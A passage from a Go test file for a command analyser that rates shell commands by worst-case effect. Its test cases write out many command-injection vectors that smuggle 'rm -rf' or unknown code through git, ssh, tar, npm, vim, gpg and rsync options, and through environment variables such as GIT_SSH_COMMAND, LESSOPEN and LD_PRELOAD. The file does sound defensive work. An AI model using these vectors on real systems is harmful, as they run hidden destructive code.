		{cmd: `git config credential.helper '!rm -rf /x'`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `git config submodule.s.update '!rm -rf /x'`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `git config core.pager "$P"`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `git config "$K" 'rm -rf /x'`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `git config core.hooksPath /tmp/hooks`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `git config --global include.path /tmp/c`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `git config filter.lfs.clean 'git-lfs clean -- %f'`, effect: Write, noWrites: true},
		{cmd: `git config credential.helper store`, effect: Write, noWrites: true},
		{cmd: `git config --global core.pager less`, effect: Write, noWrites: true},
		{cmd: `git config user.name x`, effect: Write, noWrites: true},
		{cmd: `git config --get core.pager`, effect: ReadOnly, noWrites: true},
		{cmd: `git config --get-regexp alias`, effect: ReadOnly, noWrites: true},
		{cmd: `git --exec-path`, effect: ReadOnly, noWrites: true},
		// Options of other programs that name a command or a
		// configuration naming one.
		{cmd: `zip -T -TT 'rm -rf /x' a.zip f`, effect: Destructive, writes: []string{"/x", "/proj/a.zip"}},
		{cmd: `zip --unzip-command='rm -rf /x' -T a.zip f`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `zip -T -TT "$C" a.zip f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `man -P 'rm -rf /x' ls`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `man --pager='rm -rf /x' ls`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `man -P cat ls`, effect: ReadOnly, noWrites: true},
		{cmd: `man -H'rm -rf /x' ls`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `man --html='rm -rf /x' ls`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `man -C /tmp/man.conf ls`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `man -s 1 -k ls`, effect: ReadOnly, noWrites: true},
		{cmd: `less -k /tmp/keys f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `less --lesskey-src=/tmp/keys f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `sort --compress-program='rm -rf /x' f`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `sort --compress-program=gzip -S 1G f`, effect: ReadOnly, noWrites: true},
		// A configuration curl or wget is given can set the files they
		// write (curl's output, upload-file; wget's output_document) and
		// the command wget runs (use_askpass); wget -e runs one of its
		// commands, read as the option it stands for.
		{cmd: `curl -K /tmp/c https://x.example`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `curl --config=/tmp/c https://x.example`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `curl -sK /tmp/c https://x.example`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `curl -K /dev/null https://x.example`, effect: Network, noWrites: true},
		{cmd: `curl -K - https://x.example`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `echo 'output = /x' | curl --config - https://x.example`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `wget --config=/tmp/w https://x.example/f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `wget -e output_document=/x https://x.example/f`, effect: Write, writes: []string{"/x"}},
		{cmd: `wget --execute 'dir_prefix = /tmp/d' https://x.example/f`, effect: Write, writes: []string{"/tmp/d/f"}},
		{cmd: `wget -e logfile=/tmp/l https://x.example/f`, effect: Write, writes: []string{"/tmp/l", "/proj/f"}},
		{cmd: `wget -e 'use_askpass=rm -rf /x' https://x.example/f`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `wget --use-askpass='rm -rf /x' https://x.example/f`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `wget -e "$C" https://x.example/f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `wget -e robots=off https://x.example/f`, effect: Write, writes: []string{"/proj/f"}},
		// vim's Ex commands: a !command runs it, a script sourced, a vimrc,
		// typed input or another Ex command can run any.
		{cmd: `vim -c '!rm -rf /x' f`, effect: Destructive, writes: []string{"/x", "/proj/f"}},
		{cmd: `vim --cmd ':!rm -rf /x' f`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `vim '+!rm -rf /x' f`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `view -c '!rm -rf /x' f`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `nvim -c 'call system("rm -rf /x")' f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `vim -c '%s/a/\=system("rm -rf /x")/' f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `vim -c 'w /etc/passwd' f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `vim -c "$C" f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `vim -S /tmp/s.vim f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `vim -u /tmp/rc f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `vim -s /tmp/keys f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `vim -u NONE f`, effect: Write, writes: []string{"/proj/f"}},
		// nvim -l runs a Lua script (-ll, without the editor's API), as -S
		// sources one; vim's -l is lisp mode.
		{cmd: `nvim -l /tmp/s.lua`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `nvim --headless -l s.lua a b`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `nvim -ll s.lua`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `nvim -l "$S"`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `vim -l f.lisp`, effect: Write, writes: []string{"/proj/f.lisp"}},
		{cmd: `ex -s f`, effect: Write, writes: []string{"/proj/f"}},
		{cmd: `vim -es -c 'set nu' f`, effect: Write, writes: []string{"/proj/f"}},
		{cmd: `vim +10 f`, effect: Write, writes: []string{"/proj/f"}},
		{cmd: `vim -c 'set nu' -c '%s/a/b/g|wq' f`, effect: Write, writes: []string{"/proj/f"}},
		{cmd: `vim f`, effect: Write, writes: []string{"/proj/f"}},
		// The shell make and npm run every recipe and script with.
		{cmd: `make SHELL='rm -rf /x'`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `make -j4 SHELL:=/tmp/x all`, effect: ExecuteCheck, noWrites: true},
		{cmd: `make SHELL=/bin/bash test`, effect: ExecuteCheck, noWrites: true},
		{cmd: `make SHELL="$S"`, effect: Destructive, unknown: true, writes: []string{"/"}},
		// make --eval (-E) reads makefile text, which can run commands
		// ($(shell …), recipes, include): but a plain assignment, one of
		// SHELL read as SHELL=.
		{cmd: `make --eval='x:=$(shell rm -rf /x)'`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `make -E 'x != rm -rf /x' all`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `make -E'all: ; rm -rf /x' all`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `make -j4 --eval 'include /tmp/x.mk' all`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `make --eval="$E"`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `make --eval='MAKEFLAGS += --eval=x'`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `make --eval='all: SHELL=rm' all`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `make --eval='x = 1'$'\n''all: ; rm -rf /x' all`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `make --eval="SHELL := rm -rf /x"`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `make --eval=SHELL=/bin/bash test`, effect: ExecuteCheck, noWrites: true},
		{cmd: `make --eval='CFLAGS += -O2' -E V=1 all`, effect: ExecuteCheck, noWrites: true},
		{cmd: `npm --script-shell='rm -rf /x' run build`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `npm run build --script-shell 'rm -rf /x'`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `yarn --script-shell=/tmp/x test`, effect: ExecuteCheck, noWrites: true},
		{cmd: `pnpm --script-shell "$S" test`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `npm config set script-shell 'rm -rf /x'`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `npm config set script-shell='rm -rf /x'`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `yarn config set script-shell /bin/bash`, effect: Write, noWrites: true},
		// --userconfig and --globalconfig name another .npmrc, which can
		// set script-shell.
		{cmd: `npm --userconfig /tmp/x test`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `npm run build --userconfig=/tmp/x`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `pnpm --globalconfig /tmp/g install`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `npm --userconfig /dev/null test`, effect: ExecuteCheck, noWrites: true},
		{cmd: `npm config set registry https://r.example`, effect: Write, noWrites: true},
		{cmd: `npm config set //r.example/:_authToken=$NPM_TOKEN`, effect: Write, noWrites: true},
		{cmd: `npm config set "$K" 'rm -rf /x'`, effect: Destructive, unknown: true, writes: []string{"/"}},
		// npm set is config set's alias; userconfig, globalconfig and
		// yarnPath name code run later, and yarn set version installs it.
		{cmd: `npm set script-shell 'rm -rf /x'`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `npm -g set script-shell='rm -rf /x'`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `pnpm config set script_shell='rm -rf /x'`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `npm set registry https://r.example`, effect: Write, noWrites: true},
		{cmd: `npm config set userconfig /tmp/x`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `npm config set globalconfig=/tmp/g`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `npm config set userconfig /dev/null`, effect: Write, noWrites: true},
		{cmd: `yarn config set yarnPath .yarn/releases/x.cjs`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `yarn config set yarnPath "$P"`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `yarn set version stable`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `yarn config set npmRegistryServer https://r.example`, effect: Write, noWrites: true},
		// watch runs its words through sh -c, but with -x.
		{cmd: `watch 'rm -rf /x'`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `watch -n 5 'ls; rm -rf /x'`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `watch -x rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `watch -n 1 "$C"`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `watch -n 2 git status`, effect: ReadOnly, noWrites: true},
		{cmd: `tar -cf a.tar --checkpoint=1 --checkpoint-action=exec='rm -rf /x' src`, effect: Destructive, writes: []string{"/x", "/proj/a.tar"}},
		{cmd: `tar -xf a.tar --to-command='sh -c "rm -rf /x"'`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `tar --to-command="$X" -xf a.tar`, effect: Destructive, unknown: true},
		{cmd: `tar -I 'rm -rf /x' -cf a.tar src`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `tar -cf a.tar --checkpoint=100 --checkpoint-action=dot src`, effect: Write, writes: []string{"/proj/a.tar"}},
		// The program in a group, and in the old style's first word, whose
		// letters take the next words in turn.
		{cmd: `tar -cI'rm -rf /x' -f a.tar src`, effect: Destructive, writes: []string{"/x", "/proj/a.tar"}},
		{cmd: `tar cfI a.tar 'rm -rf /x' src`, effect: Destructive, writes: []string{"/x", "/proj/a.tar"}},
		{cmd: `tar cIf "$X" a.tar src`, effect: Destructive, unknown: true},
		{cmd: `tar --use-compress-program 'rm -rf /x' -cf a.tar src`, effect: Destructive, writes: []string{"/x", "/proj/a.tar"}},
		// rg runs the --pre program on every file it searches.
		{cmd: `rg --pre rm foo`, effect: Destructive},
		{cmd: `rg --pre ./unpack.sh foo`, effect: ExecuteCheck},
		{cmd: `rg --pre 'rm -rf /x' foo`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `rg --pre='rm -rf /x' -n foo src`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `rg --pre "$X" foo`, effect: Destructive, unknown: true},
		{cmd: `rg --hostname-bin 'rm -rf /x' foo`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `rg --pre-glob '*.pdf' foo`, effect: ReadOnly},
		{cmd: `rsync -e 'rm -rf /x' a host:b`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `rsync --rsh='rm -rf /x' a host:b`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `rsync -az -e 'ssh -p 2222' a host:b`, effect: Write},
		{cmd: `scp -S 'rm -rf /x' a host:b`, effect: Destructive, writes: []string{"/x"}},
		// gpg starts the agent, dirmngr and keyboxd it is given, and runs
		// the photo viewer: the program named runs, whatever gpg does.
		{cmd: `gpg --agent-program 'rm -rf /x' -d f.gpg`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `gpg --agent-program=/tmp/agent --list-keys`, effect: ExecuteCheck, noWrites: true},
		{cmd: `gpg --dirmngr-program 'rm -rf /x' --recv-keys ABCD`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `gpg --keyboxd-program 'rm -rf /x' -k`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `gpg --photo-viewer 'rm -rf /x' --list-options show-photos -k`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `gpg --agent-program "$X" -d f.gpg`, effect: Destructive, unknown: true},
		// A configuration gpg is pointed at can name those programs
		// (agent-program in gpg.conf, pinentry-program in
		// gpg-agent.conf): a program not known, as a configuration file
		// git -c include.path includes.
		{cmd: `gpg --homedir /tmp/g --list-keys`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `gpg --homedir=/tmp/g -d f.gpg`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `gpg --options ./gpg.conf -d f.gpg`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `gpg2 --batch --options "$CONF" -k`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `gpg --options /dev/null --list-keys`, effect: ReadOnly, noWrites: true},
		{cmd: `gpg --no-options --list-keys`, effect: ReadOnly, noWrites: true},
		{cmd: `ssh -o ProxyCommand='rm -rf /x' host`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `ssh -oProxyCommand='rm -rf /x' host`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `ssh -o 'proxycommand rm -rf /x' host`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `ssh -o LocalCommand='rm -rf /x' -o PermitLocalCommand=yes host`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `ssh -o ProxyCommand="$X" host`, effect: Destructive, unknown: true},
		{cmd: `ssh -o RemoteCommand='rm -rf /x' host`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `ssh -o 'KnownHostsCommand = rm -rf /x' host`, effect: Destructive, writes: []string{"/x"}},
		// An ssh configuration can set those commands.
		{cmd: `ssh -F /tmp/cfg host`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `ssh -F./cfg host ls`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `scp -F ./cfg a host:b`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `ssh -F /dev/null host`, effect: Network, noWrites: true},
		// So can an openssl configuration load engines and providers.
		{cmd: `openssl req -config /tmp/x.cnf -new -key k.pem -out r.csr`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `openssl ca -config=ca.cnf -in r.csr -out c.pem`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `openssl req -config /dev/null -new -key k.pem -out r.csr -subj /CN=x`, effect: Write, writes: []string{"/proj/r.csr"}},
		{cmd: `ssh -o ProxyCommand=none host`, effect: Network},
		{cmd: `ssh -o StrictHostKeyChecking=no host`, effect: Network},
		{cmd: `scp -o ProxyCommand='rm -rf /x' a host:b`, effect: Destructive, writes: []string{"/x"}},
		// sftp runs ssh as scp does, and its batch file's !commands.
		{cmd: `sftp -o ProxyCommand='rm -rf /x' host`, effect: Destructive, writes: []string{"/x"}, hosts: []string{"host"}},
		{cmd: `sftp -F /tmp/cfg host`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `sftp -F /dev/null -P 2222 host`, effect: Network, noWrites: true, hosts: []string{"host"}},
		{cmd: `sftp -S 'rm -rf /x' host`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `sftp -D 'rm -rf /x' host`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `sftp -D /usr/lib/openssh/sftp-server`, effect: Network, noWrites: true},
		{cmd: `echo "!rm -rf /x" | sftp host`, effect: Destructive, writes: []string{"/x"}},
		{cmd: "sftp -b - host <<'EOF'\nget f\n-@!rm -rf /x\nEOF", effect: Destructive, writes: []string{"/x"}},
		{cmd: "sftp host <<'EOF'\nget f\nEOF", effect: Write, noWrites: true},
		{cmd: `sftp -b - host < cmds`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `sftp -b /tmp/batch host`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `sftp -o Port=2222 user@host:dir`, effect: Network, noWrites: true, hosts: []string{"host"}},
		{cmd: `scp -D 'rm -rf /x' a host:b`, effect: Destructive, writes: []string{"/x"}},
		// rsync runs --rsync-path on the remote host, and ssh as -e says.
		{cmd: `rsync --rsync-path='rm -rf /x' a host:b`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `rsync --rsync-path='sudo rsync' -a a host:b`, effect: Write, noWrites: true},
		// -M (--remote-option) passes an option to the rsync run on the
		// remote host: a daemon parameter can be a command it runs there
		// (pre-xfer exec …), a configuration any; rsync's other options
		// run nothing.
		{cmd: `rsync -e ssh -M'--dparam=pre-xfer exec=rm -rf /x' a host::m/`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `rsync --remote-option='--dparam=post-xfer exec=rm -rf /x' a host::m/`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `rsync -M --config=/tmp/d.conf a host::m/`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `rsync -M "$O" a host:b`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `rsync -M--fake-super -a a host:b`, effect: Write, noWrites: true},
		{cmd: `rsync -e "ssh -o ProxyCommand='rm -rf /x'" a host:b`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `rsync --rsh='ssh -F /tmp/cfg' a host:b`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `find . -exec rm -rf {} +`, effect: Destructive, writes: []string{"/proj"}},
		{cmd: `find build -execdir rm {} \;`, effect: Destructive, writes: []string{"/proj/build"}},
		{cmd: `find . -name '*.o' -delete`, effect: Destructive, writes: []string{"/proj"}},
		{cmd: `mv a b`, effect: Write, writes: []string{"/proj/a", "/proj/b"}},
		{cmd: `mv -t dest a b`, effect: Write, writes: []string{"/proj/a", "/proj/b", "/proj/dest"}},
		{cmd: `cp -t dest a b`, effect: Write, writes: []string{"/proj/dest"}},
	})
}

// TestEnvironmentRunningCode: a variable of the environment can make a
// program run code the command does not show — a command (GIT_SSH_COMMAND,
// PAGER), a library or script it loads (LD_PRELOAD, BASH_ENV, NODE_OPTIONS
// --require), a configuration that can name programs (GIT_CONFIG_GLOBAL,
// OPENSSL_CONF, GNUPGHOME) — given before the command, with env, or set
// earlier in the command.
func TestEnvironmentRunningCode(t *testing.T) {
	cases := []worstCase{
		// A command the program runs is analysed.
		{cmd: `GIT_SSH_COMMAND='rm -rf /x' git fetch`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `GIT_SSH_COMMAND="$X" git fetch`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `GIT_SSH_COMMAND='ssh -i key -o IdentitiesOnly=yes' git fetch origin`, effect: Network, noWrites: true},
		{cmd: `GIT_SSH='rm -rf /x' git fetch`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `GIT_PAGER='rm -rf /x' git log`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `PAGER='rm -rf /x' git log`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `npm_config_script_shell='rm -rf /x' npm test`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `npm_config_script_shell=bash npm test`, effect: ExecuteCheck, noWrites: true},
		{cmd: `NPM_CONFIG_SCRIPT_SHELL=/tmp/x pnpm test`, effect: ExecuteCheck, noWrites: true},
		{cmd: `PAGER='rm -rf /x' man ls`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `MANPAGER='rm -rf /x' man ls`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `LESSOPEN='|rm -rf /x %s' less f`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `LESSOPEN='||-rm -rf /x %s' less f`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `LESSOPEN='| lesspipe %s' less f`, effect: ExecuteCheck, noWrites: true},
		{cmd: `LESSOPEN="$P" less f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `LESSCLOSE='rm -rf /x %s %s' less f`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `LESSOPEN='|rm -rf /x %s' cat f`, effect: ReadOnly, noWrites: true},
		{cmd: `PAGER=cat git log`, effect: ReadOnly, noWrites: true},
		{cmd: `GIT_PAGER='git log' git log`, effect: ReadOnly, noWrites: true},
		{cmd: `PAGER='rm -rf /x' ls`, effect: ReadOnly, noWrites: true},
		{cmd: `EDITOR='rm -rf /x' git commit`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `VISUAL='rm -rf /x' crontab -e`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `GIT_EDITOR='rm -rf /x' git commit --amend`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `GIT_SEQUENCE_EDITOR='rm -rf /x' git rebase -i HEAD~2`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `GIT_EXTERNAL_DIFF='rm -rf /x' git diff`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `GIT_ASKPASS='rm -rf /x' git push origin main`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `GIT_PROXY_COMMAND='rm -rf /x' git fetch git://h/r`, effect: Destructive, writes: []string{"/x"}},
		// Set with env, exported or assigned before, or inherited by what
		// the program runs.
		{cmd: `env GIT_SSH_COMMAND='rm -rf /x' git fetch`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `export GIT_SSH_COMMAND='rm -rf /x'; git fetch`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `GIT_PAGER='rm -rf /x'; git log`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `export GIT_PAGER="$(cat p)"; git log`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `X='rm -rf /x'; GIT_PAGER=$X git log`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `GIT_SSH_COMMAND='rm -rf /x' bash -c 'git fetch'`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `GIT_SSH_COMMAND='rm -rf /x' true; git fetch`, effect: Network, noWrites: true},
		// sudo's NAME=value words are the command's environment, as env's,
		// after its options and through the wrappers that run it.
		{cmd: `sudo GIT_SSH_COMMAND='rm -rf /x' git fetch`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `sudo -E -u root GIT_PAGER='rm -rf /x' git log`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `sudo --user=root -- GIT_PAGER='rm -rf /x' git log`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `env -- GIT_PAGER='rm -rf /x' git log`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `doas -u root git log`, effect: ReadOnly, noWrites: true},
		{cmd: `sudo env GIT_SSH_COMMAND='rm -rf /x' git fetch`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `nice -n 5 sudo -u x PAGER='rm -rf /x' man ls`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `timeout 5 env GIT_SSH_COMMAND='rm -rf /x' git fetch`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `nohup env -u X GIT_SSH_COMMAND='rm -rf /x' git fetch`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `ls | xargs env GIT_SSH_COMMAND='rm -rf /x' git fetch`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `sudo -u www GIT_SSH_COMMAND="$X" git fetch`, effect: Destructive, unknown: true, writes: []string{"/"}},
		// A library or a script loaded runs code from a file: at least a
		// check; one not known is the worst.
		{cmd: `LD_PRELOAD=/tmp/x.so ls`, effect: ExecuteCheck, noWrites: true},
		{cmd: `LD_PRELOAD="$LIB" ls`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `LD_AUDIT=/tmp/a.so cat f`, effect: ExecuteCheck, noWrites: true},
		{cmd: `env LD_PRELOAD=/tmp/x.so ls`, effect: ExecuteCheck, noWrites: true},
		{cmd: `sudo LD_PRELOAD=/tmp/x.so ls`, effect: ExecuteCheck, noWrites: true},
		{cmd: `sudo -u root LD_PRELOAD="$L" ls`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `export LD_PRELOAD=/tmp/x.so; ls`, effect: ExecuteCheck, noWrites: true},
		{cmd: `LD_PRELOAD=/tmp/x.so rm -rf /x`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `LD_LIBRARY_PATH=/tmp/evil ls`, effect: ExecuteCheck, noWrites: true},
		{cmd: `LD_LIBRARY_PATH=$LD_LIBRARY_PATH:/opt/lib ls`, effect: ExecuteCheck, noWrites: true},
		{cmd: `BASH_ENV=/tmp/f bash -c 'ls'`, effect: ExecuteCheck, noWrites: true},
		{cmd: `BASH_ENV=/tmp/f bash -c 'rm -rf /x'`, effect: Destructive, writes: []string{"/x"}},
		{cmd: `BASH_ENV="$F" bash -c ls`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `ENV=/tmp/f sh -c ls`, effect: ExecuteCheck, noWrites: true},
		{cmd: `PYTHONSTARTUP=/tmp/s.py python3 -V`, effect: ExecuteCheck, noWrites: true},
		{cmd: `PYTHONPATH=/tmp/evil python3 -m json.tool f`, effect: ExecuteCheck, noWrites: true},
		{cmd: `PERL5OPT=-Mevil git log`, effect: ExecuteCheck, noWrites: true},
		{cmd: `PERL5OPT=-w git log`, effect: ReadOnly, noWrites: true},
		{cmd: `PERL5LIB=/tmp/evil git log`, effect: ExecuteCheck, noWrites: true},
		{cmd: `RUBYOPT=-revil gem list`, effect: ExecuteCheck, noWrites: true},
		{cmd: `RUBYLIB=/tmp/evil gem list`, effect: ExecuteCheck, noWrites: true},
		{cmd: `NODE_OPTIONS='--require /tmp/x.js' npm ls`, effect: ExecuteCheck, noWrites: true},
		{cmd: `NODE_OPTIONS=--import=./x.mjs npm ls`, effect: ExecuteCheck, noWrites: true},
		{cmd: `NODE_OPTIONS="-r $H" npm ls`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `NODE_OPTIONS=--max-old-space-size=4096 npm ls`, effect: ReadOnly, noWrites: true},
		// PATH: a directory before the ones inherited holds the program
		// run, which is then one of that directory's files.
		{cmd: `PATH=/tmp/evil:$PATH ls`, effect: ExecuteCheck, noWrites: true},
		{cmd: `export PATH="$HOME/bin:$PATH"; cat f`, effect: ExecuteCheck, noWrites: true},
		{cmd: `PATH=/tmp/evil ls`, effect: ExecuteCheck, noWrites: true},
		{cmd: `PATH=$PATH:/opt/bin ls`, effect: ReadOnly, noWrites: true},
		{cmd: `export PATH="${PATH}:$HOME/go/bin"; ls`, effect: ReadOnly, noWrites: true},
		{cmd: `PATH=/tmp/evil:$PATH echo hi`, effect: ReadOnly, noWrites: true},
		{cmd: `PATH=/tmp/evil:$PATH /bin/ls`, effect: ReadOnly, noWrites: true},
		// A configuration that can name the programs run: not known.
		{cmd: `GIT_CONFIG_GLOBAL=/tmp/cfg git status`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `GIT_CONFIG_SYSTEM=./cfg git log`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `GIT_CONFIG=/tmp/cfg git log`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `GIT_CONFIG_GLOBAL=/dev/null git status`, effect: ReadOnly, noWrites: true},
		{cmd: `LESSKEY=/tmp/k less f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `LESSKEYIN=/tmp/k.src less f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `LESSKEY_SYSTEM=/tmp/k less f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `LESSKEYIN_SYSTEM=/tmp/k.src less f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		// less 643 reads lesskey source text from LESSKEY_CONTENT itself:
		// its #env section can set LESSOPEN, as a file's can.
		{cmd: `LESSKEY_CONTENT=$'#env\nLESSOPEN=|rm -rf /x %s' less f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `LESSKEY_CONTENT="$K" less f`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `LESSKEY_CONTENT= less f`, effect: ReadOnly, noWrites: true},
		// npm's userconfig and globalconfig are other .npmrc files, whose
		// script-shell runs every script; yarn berry's rc file is another
		// .yarnrc.yml (its yarnPath runs), and YARN_YARN_PATH is the
		// JavaScript file run in yarn's stead.
		{cmd: `npm_config_userconfig=/tmp/x npm test`, effect: Destructive, unknown: true, writes: []string{"/"}},
		{cmd: `NPM_CONFIG_USERCONFIG=/tmp/x pnpm install`, effect: Destructive, unknown: true, writes: []string{"/"}},
